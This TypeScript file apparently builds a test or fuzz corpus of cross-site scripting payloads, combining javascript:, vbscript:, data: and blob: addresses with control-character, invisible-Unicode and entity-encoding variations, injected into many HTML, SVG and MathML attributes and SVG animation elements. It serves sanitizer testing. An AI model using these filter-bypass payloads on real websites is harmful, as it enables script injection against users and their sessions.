/* Addresses that run or fetch something: schemes written so that readers disagree about them, in every attribute that takes an address. */

const SCHEMES: readonly string[] = [
  'javascript:hurt(1)',
  'vbscript:hurt(1)',
  'data:text/html,<script>hurt(1)</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="hurt(1)"/>',
  'blob:https://evil.example/1',
  'jar:data:text/html,x!/',
];
const first = (text: string, change: (letter: string) => string): string => change(text[0]!) + text.slice(1);
const inside = (text: string, put: string): string => `${text.slice(0, 4)}${put}${text.slice(4)}`;
const CONTROLS = Array.from({ length: 33 }, (_, code) => String.fromCharCode(code));
const INVISIBLE = [
  ...('\u007f\u0080\u0085\u00a0\u00ad\u034f\u061c\u1680\u180e\u2000\u200b\u200d\u200e\u2028\u202a' +
    '\u202e\u2060\u2066\u3000\ufeff\ufffd\uffff\ud800\u{e0020}'),
];

const spellings = (scheme: string): string[] => [
  scheme,
  scheme.toUpperCase(),
  ...[...CONTROLS, ...INVISIBLE].map((put) => put + scheme),
  ...[...CONTROLS, ...INVISIBLE].map((put) => inside(scheme, put)),
  ...['\t', '\n', '\r', '\u0000', ' ', '\u200b'].map((put) => scheme.replace(':', `${put}:`)),
  first(scheme, (letter) => `&#${letter.charCodeAt(0)};`),
  first(scheme, (letter) => `&#${String(letter.charCodeAt(0)).padStart(9, '0')}`),
  first(scheme, (letter) => `&#x${letter.charCodeAt(0).toString(16)}`),
  first(scheme, (letter) => `&#X${letter.charCodeAt(0).toString(16).toUpperCase()};`),
  first(scheme, (letter) => `%${letter.charCodeAt(0).toString(16)}`),
  first(scheme, (letter) => String.fromCharCode(letter.charCodeAt(0) + 0xfee0)),
  scheme.replace(':', '&colon;'),
  scheme.replace(':', '&#58'),
  scheme.replace(':', '\uff1a'),
  scheme.replace(':', '%3a'),
  inside(scheme, '&Tab;'),
  inside(scheme, '&NewLine;'),
  inside(scheme, '&ZeroWidthSpace;'),
  inside(scheme, '&shy;'),
  inside(scheme, '\\'),
  inside(scheme, '<!-- -->'),
  scheme.replaceAll('s', '\u017f'),
  `feed:${scheme}`,
  `view-source:${scheme}`,
  `//evil.example/${scheme}`,
  `\\\\evil.example\\${scheme}`,
  `https:${scheme}`,
  `?${scheme}`,
  `#${scheme}`,
  `x ${scheme}`,
  `"${scheme}`,
  `${scheme}//https://demo.example/`,
];

/** All spellings of all schemes, as they are. */
export const spelled: readonly string[] = SCHEMES.flatMap((scheme, i) => spellings(scheme).filter((_, j) => i === 0 || j % 3 === i % 3));

const TAKERS: readonly string[] = [
  '<a href="%">x</a>',
  "<a href='%' target=_blank rel=opener>x</a>",
  '<a href=%>x</a>',
  '<area href="%" shape=default>',
  '<form action="%"><button>x</button></form>',
  '<button formaction="%" form=f>x</button>',
  '<input type=image src="%" formaction="%">',
  '<iframe src="%"></iframe>',
  '<iframe srcdoc="<a href=\'%\'>x</a><script>parent.hurt(1)</script>"></iframe>',
  '<frameset><frame src="%"></frameset>',
  '<object data="%" codebase="%" classid="%"></object>',
  '<object><param name=movie value="%"><param name=code value="%"></object>',
  '<embed src="%" pluginspage="%">',
  '<applet code="%" archive="%" codebase="%"></applet>',
  '<portal src="%"></portal><fencedframe src="%"></fencedframe>',
  '<img src="%" srcset="%, % 2x" longdesc="%" lowsrc="%" dynsrc="%">',
  '<picture><source srcset="%"><img src="%"></picture>',
  '<link rel="stylesheet icon manifest preload" as=script href="%">',
  '<base href="%">',
  '<meta http-equiv=refresh content="0; url=%">',
  '<meta http-equiv=refresh content="0;%">',
  '<svg><a href="%" xlink:href="%"><text>x</text></a></svg>',
  '<svg><use href="%" xlink:href="%#x"/></svg>',
  '<svg><image href="%"/><feImage href="%"/><script href="%"/></svg>',
  '<math href="%"><mi xlink:href="%">x</mi><maction actiontype="statusline#%">x</maction></math>',
  '<video src="%" poster="%"><source src="%"><track src="%" default></video>',
  '<audio src="%" autoplay></audio><bgsound src="%">',
  '<blockquote cite="%"><q cite="%"><del cite="%">x</del></q></blockquote>',
  '<a ping="%" href="#" attributionsrc="%">x</a>',
  '<body background="%"><table background="%"><td background="%">',
  '<html manifest="%" xmlns:x="%">',
  '<p style="background:url(%);--x:url(%)">x</p>',
  '<style>@import "%"; @namespace x url(%); p{background:url("%")}</style>',
  '<script src="%"></script><script type=module>import("%")</script>',
  '<isindex action="%" type=submit>',
  '<xml src="%"></xml><xml:include href="%"/>',
  '<ui-clip src="%" poster="%"></ui-clip><ui-event action="%"></ui-event>',
];
const inAttributes = spelled.flatMap((address, i) =>
  [0, 1, 2].map((turn) => TAKERS[(i * 3 + turn * 11) % TAKERS.length]!.replaceAll('%', () => address)),
);

const ANIMATED = ['animate', 'set', 'animateTransform', 'animateMotion'];
const TARGETS = ['href', 'xlink:href', 'onclick', 'style', 'src', 'from', 'attributeName'];
const WAYS = ['to="%"', 'from="%" to="x"', 'values="x;%"', 'by="%"', 'values="%" keyTimes="0;1" begin="0s" dur="1s" fill="freeze"'];
const animated = ANIMATED.flatMap((animation) =>
  TARGETS.flatMap((target, i) =>
    WAYS.map((way, j) => {
      const run = `<${animation} attributeName="${target}" ${way.replace('%', 'javascript:hurt(1)')} onbegin="hurt(1)"/>`;
      return (i + j) % 2
        ? `<svg><a id="t"><text>x</text>${run}</a></svg>`
        : `<svg><a id="t" href="#"><text>x</text></a>${run.replace(' ', ' href="#t" ')}</svg>`;
    }),
  ),
);

export const addresses: readonly string[] = [...inAttributes, ...animated, ...spelled.filter((_, i) => i % 4 === 0)];
